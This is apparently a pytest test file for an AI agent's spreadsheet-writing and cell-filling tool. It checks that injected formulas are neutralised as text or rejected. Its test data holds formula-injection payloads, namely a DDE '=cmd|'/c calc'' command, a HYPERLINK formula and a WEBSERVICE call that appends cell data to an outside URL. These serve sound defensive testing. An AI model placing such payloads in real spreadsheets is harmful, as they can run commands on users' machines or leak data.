from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest

from planloom.agents.tool import ToolContext
from planloom.agents.tools import spreadsheets
from planloom.agents.workspace import Workspace
from planloom.errors import ToolError

EVIL = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x","y")',
    "\t=1",
    "\r=1",
    "http://x",
]


@pytest.fixture
def context(tmp_path: Path) -> ToolContext:
    return ToolContext(workspace=Workspace(tmp_path, tmp_path / "out"))


def _at(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text)


def _book(made: Any, **options: Any) -> Any:
    return openpyxl.load_workbook(made["path"], **options)


def test_workbook_keeps_kinds_and_looks_like_one(context: ToolContext) -> None:
    rows = [
        [1001, "Oslo", 12.5, "2025-01-02", True, "2025-01-02 10:30"],
        [1002, "Rome", None, "2025-03-04", False, None],
    ]
    columns = ["id", "port", "paid", "day", "late", "at"]
    sheet: Any = {"name": "Bills", "title": "All bills", "columns": columns, "rows": rows}
    sheet |= {"formats": {"paid": "currency:EUR"}, "totals": ["paid"], "formulas": {"twice": "=C{row}*2"}}
    made = spreadsheets.write([sheet, None], context)
    assert made["sheets"] == [{"name": "Bills", "rows": 2, "columns": 7}]
    page = _book(made)["Bills"]
    assert page["A1"].value == "All bills" and page["A3"].value == "id" and page["A3"].font.bold
    assert [cell.value for cell in page[4]] == [
        1001, "Oslo", 12.5, _at("2025-01-02"), True, _at("2025-01-02T10:30"), "=C4*2",
    ]  # fmt: skip
    assert page["C6"].value == "=SUM(C4:C5)" and page["A6"].value == "Total"
    assert ("€" in page["C4"].number_format, page["A4"].number_format) == (True, "0")
    assert page.freeze_panes == "A4" and page.auto_filter.ref == "A3:G5"
    assert page.column_dimensions["F"].width > 15


def test_texts_are_never_formulas_or_links(context: ToolContext) -> None:
    made = spreadsheets.write([{"columns": EVIL, "rows": [EVIL, EVIL]}], context)
    page = _book(made)["Sheet1"]
    for row in page.iter_rows(max_col=len(EVIL)):
        for cell, text in zip(row, EVIL, strict=True):
            assert cell.data_type == "s" and cell.hyperlink is None
            assert cell.value.replace("\r", "").replace("_x000D_", "") == text.replace("\r", "")


def test_tables_records_and_odd_values(context: ToolContext, tmp_path: Path) -> None:
    days = [dt.date(2025, 1, 1), dt.date(1600, 1, 1), None]
    frame = pl.DataFrame({"n": [1, 2, 10**17], "x": [0.5, float("nan"), 1e300], "d": days, "t": ["=1", "b", None]})
    frame.write_parquet(tmp_path / "t.parquet")
    records = [{"a": 1, "b": 10**17}, {"c": "x" * 40_000, "a": "\x00\ud800"}]
    made = spreadsheets.write(
        [
            {"name": "a/b", "table": "t.parquet"},
            {"name": "A-B", "records": records},
            {"name": "x" * 40, "records": records},
        ],
        context,
    )
    book = _book(made)
    assert book.sheetnames == ["a-b", "A-B (2)", "x" * 31]
    assert [[cell.value for cell in row] for row in book["a-b"].iter_rows(min_row=2)] == [
        [1, 0.5, _at("2025-01-01"), "=1"], [2, None, "1600-01-01", "b"], [str(10**17), 1e300, None, None],
    ]  # fmt: skip
    page = book["A-B (2)"]
    assert page["B2"].value == str(10**17) and page["C3"].value.endswith("(cut)")


def test_large_table_is_written_whole(context: ToolContext, tmp_path: Path) -> None:
    pl.DataFrame({"n": range(45_000)}).write_parquet(tmp_path / "t.parquet")
    made = spreadsheets.write([{"table": "t.parquet"}], context)
    book = _book(made, read_only=True)
    assert [row[0] for row in book["Sheet1"].iter_rows(min_row=2, values_only=True)] == list(range(45_000))
    book.close()


@pytest.mark.parametrize(
    ("sheet", "told"),
    [
        ({"columns": ["a"], "rows": [[1]], "records": []}, "one of table, rows or records"),
        ({"name": "x"}, "one of table, rows or records"),
        ({"columns": [], "rows": [[1]]}, "at least one column"),
        ({"columns": ["a"], "rows": [[1, 2]]}, "row 1"),
        ({"columns": ["a"], "rows": [[1]], "totals": ["b"]}, "a column of 'Sheet1'"),
        ({"columns": ["a"], "rows": [[1]], "formats": {"a": "fancy"}}, "a format among"),
        ({"columns": ["a"], "rows": [[1]], "formulas": {"b": "1+1"}}, "begins with ="),
        ({"columns": ["a"], "rows": [[1]], "formulas": {"b": '=WEBSERVICE("http://x/"&A{row})'}}, "reaches outside"),
        ({"columns": ["a"], "rows": [[1]], "formulas": {"b": "=cmd|'/c calc'!A0"}}, "reaches outside"),
        ({"columns": ["a"], "rows": [[1]], "formulas": {"b": "=[other.xlsx]Sheet1!A1"}}, "reaches outside"),
    ],
)
def test_unusable_sheets_say_why_and_leave_no_file(context: ToolContext, sheet: Any, told: str) -> None:
    with pytest.raises(ToolError, match=told):
        spreadsheets.write([sheet], context)
    assert not list(context.workspace.out.rglob("*.xlsx"))


def test_cells_are_filled_into_a_copy(context: ToolContext, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "Plan"
    book.active.append(["what", "much"])
    book.save(tmp_path / "plan.xlsx")
    before = (tmp_path / "plan.xlsx").read_bytes()
    cells: Any = [{"cell": "b7", "value": "=1+1", "sheet": "Plan"}, {"cell": "C1", "value": 5}]
    made = spreadsheets.fill("plan.xlsx", context, cells=cells, rows=[{"values": [EVIL[4], None, True]}])
    page = _book(made)["Plan"]
    assert (page["B7"].value, page["B7"].data_type, page["C1"].value) == ("=1+1", "s", 5)
    assert [cell.value for cell in page[8]] == [EVIL[4], None, True] and page["A8"].data_type == "s"
    assert (made["cells"], made["lost"]) == (5, []) and (tmp_path / "plan.xlsx").read_bytes() == before
    assert _book(spreadsheets.fill("plan.xlsx", context, cells=cells, formulas=True))["Plan"]["B7"].data_type == "f"
    with pytest.raises(ToolError, match="reaches outside"):
        spreadsheets.fill("plan.xlsx", context, cells=[{"cell": "A1", "value": EVIL[4]}], formulas=True)
    with pytest.raises(ToolError, match="a sheet among Plan"):
        spreadsheets.fill("plan.xlsx", context, cells=[{"cell": "A1", "value": 1, "sheet": "plan"}])
    with pytest.raises(ToolError, match="such as B7"):
        spreadsheets.fill("plan.xlsx", context, cells=[{"cell": "A0", "value": 1}])
    (tmp_path / "no.xlsx").write_text("a,b")
    with pytest.raises(ToolError, match="which is none"):
        spreadsheets.fill("no.xlsx", context, cells=cells)
